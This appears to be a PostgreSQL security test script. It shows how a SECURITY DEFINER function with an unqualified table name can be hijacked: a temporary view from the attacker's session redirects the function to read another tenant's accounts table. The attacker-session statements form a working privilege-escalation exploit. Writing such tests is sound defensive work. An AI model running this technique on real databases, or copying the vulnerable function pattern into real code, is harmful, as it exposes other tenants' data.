-- A SECURITY DEFINER function of the operator's with unqualified names finds the attacker's temporary view.
-- @session setup
CREATE FUNCTION public.first_note() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN (SELECT min(note) FROM shared); END $$;
-- @session attacker
CREATE FUNCTION evil() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN (SELECT min(owner) FROM tenant_beta.accounts); END $$;
CREATE TEMP VIEW shared AS SELECT tenant_alpha.evil() AS note;
GRANT SELECT ON shared TO PUBLIC;
SELECT first_note();
